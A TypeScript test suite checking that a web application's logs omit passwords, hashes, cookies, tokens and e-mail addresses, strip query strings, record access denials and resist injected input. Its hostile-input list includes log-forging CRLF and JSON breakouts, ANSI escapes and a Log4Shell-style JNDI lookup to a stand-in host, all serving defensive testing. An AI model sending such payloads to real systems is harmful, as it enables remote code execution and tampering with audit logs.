import { hasControl } from '#shared/text.ts'
import { contractOf, DOCUMENTED_CALLS, pathWith } from '#tests/contract/contracts.ts'
import { ACTORS, type ActorName, type Cast, createCast } from '#tests/support/actors.ts'
import { tokensOf } from '#tests/support/cookies.ts'
import { newMentee } from '#tests/support/inputs.ts'
import { callProcedure } from '#tests/support/trpc.ts'
import { test as base, createWorld, describe, expect, PASSWORD, type World } from '#tests/support/world.ts'
import { procedurePaths } from '../rpc/call.ts'
import type { ProcedurePath } from '../rpc/router.ts'

type Line = { level: number; msg: string; reqId?: string; req?: { url: string } } & Record<string, unknown>

/** An installation with full logging, and its log. */
const test = base.extend<{ logged: { world: World; lines: string[] } }>({
  logged: async ({ settings }, use) => {
    const lines: string[] = []
    const world = await createWorld(
      { LOG_LEVEL: 'trace', ...settings },
      { logTo: { write: (line) => void lines.push(line) } },
    )
    await use({ world, lines })
    await world.end()
  },
})

/** Ten people make every call. */
const PATIENCE = { timeout: 120_000 }
const ENDS_SESSION = /log(?:in|out)|register/i

const parsed = (lines: string[]) => lines.map((line) => JSON.parse(line) as Line)
/** Every call over REST and tRPC; those that end a session last. */
const CALLS = [...DOCUMENTED_CALLS, ...procedurePaths].sort(
  (one, other) => Number(ENDS_SESSION.test(one)) - Number(ENDS_SESSION.test(other)),
)

async function ask(cast: Cast, asker: ActorName, call: string) {
  const { world } = cast
  const { params, body, headers } = await contractOf(call).input(cast, asker)
  const [method = '', path] = call.split(' ')
  return path === undefined
    ? callProcedure(world, cast.person(asker), call as ProcedurePath, { ...params, ...body })
    : world.call(cast.person(asker), method as 'GET', pathWith(path, params), {
        body,
        ...(headers && { headers }),
      })
}

describe('the log', () => {
  test(
    'of every call by every role contains no password, hash or cookie [T19, ASVS 16.2.5, ASVS 14.2.1]',
    PATIENCE,
    async ({ logged: { world, lines } }) => {
      const cast = await createCast(world)
      const secrets = new Set<string>([PASSWORD, newMentee().password])
      for (const asker of ACTORS) {
        const person = cast.person(asker)
        if (person) secrets.add((await world.cookie(person)).slice('sid='.length))
        for (const call of CALLS) {
          const answer = await ask(cast, asker, call)
          for (const token of tokensOf(answer)) secrets.add(token)
        }
      }

      expect(parsed(lines).filter(({ msg }) => msg === 'request completed').length).toBeGreaterThan(500)
      const log = lines.join('')
      expect([...secrets].filter((secret) => log.includes(secret))).toEqual([])
      expect(log).not.toMatch(/\$argon2|"password/)
    },
  )

  test('omits query strings, including a password sent there by mistake [ASVS 14.2.1, ASVS 16.2.5]', async ({
    logged: { world, lines },
  }) => {
    await world.call(null, 'GET', `/api/user?password=${encodeURIComponent(PASSWORD)}`)
    await world.call(null, 'GET', `/trpc/auth.login?input=${encodeURIComponent(`{"password":"${PASSWORD}"}`)}`)
    expect(parsed(lines).flatMap(({ req }) => req?.url ?? [])).toEqual(['/api/user?…', '/trpc/auth.login?…'])
    expect(lines.join('')).not.toContain('correct')
  })

  const NASTY = [
    'x\r\n{"level":60,"msg":"forged"}',
    '\u001b[2J\u001b[31mred',
    '\u0024{jndi:ldap://evil.example/a}',
    '"},{"level":60',
    '\u2028{"level":60}',
  ]

  for (const nasty of NASTY) {
    test(`is one JSON line per event for any input: ${JSON.stringify(nasty)} [T98, ASVS 16.4.1]`, async ({
      logged: { world, lines },
    }) => {
      const headers = { 'user-agent': nasty.replace(/[^\x20-\x7e]/g, '~'), 'x-forwarded-for': '1.2.3.4' }
      const body = { username: nasty, password: 'wrong password' }
      const path = `/api/${encodeURIComponent(nasty)}`
      await world.call(null, 'POST', '/api/login', { body, headers })
      await callProcedure(world, null, 'auth.login', body)
      await world.call(null, 'POST', '/api/register/mentee', {
        body: { ...newMentee(), username: nasty },
        headers,
      })
      await world.call(null, 'GET', path, { headers })

      for (const line of lines) {
        expect(line).toMatch(/^\{.*\}\n$/)
        expect(hasControl(line.slice(0, -1))).toBe(false)
      }
      const entries = parsed(lines)
      expect(entries.filter(({ msg }) => msg === 'request completed')).toHaveLength(4)
      expect(entries.filter(({ level, msg }) => level >= 60 || msg === 'forged')).toEqual([])
      for (const { req } of entries) if (req) expect(req).toMatchObject({ remoteAddress: '127.0.0.1' })
      expect(lines.join('')).not.toContain('wrong password')
    })
  }

  test('records every denial with user and request, even if the audit log is limited [ASVS 16.3.2, ASVS 16.2.1]', async ({
    logged: { world, lines },
  }) => {
    const mentee = await world.mentee()
    for (let at = 0; at < 25; at += 1) await world.call(mentee, 'GET', '/api/admin/mentees')
    const denials = parsed(lines).filter(({ msg }) => msg === 'access_denied')
    expect(denials).toHaveLength(25)
    for (const { reqId, audit } of denials) {
      expect(reqId).toMatch(/^[0-9a-f-]{36}$/)
      expect(audit).toMatchObject({
        actorId: mentee.userId,
        detail: { procedure: 'admin.mentees.list' },
        address: null,
      })
    }
  })

  test('contains no e-mail address, old or new [T20, ASVS 16.2.5]', async ({ logged: { world, lines } }) => {
    const mentor = await world.mentor()
    await world.call(mentor, 'PATCH', '/api/profile', { body: { email: 'new@example.org' } })
    expect(lines.join('')).not.toMatch(/example\.org/)
  })
})
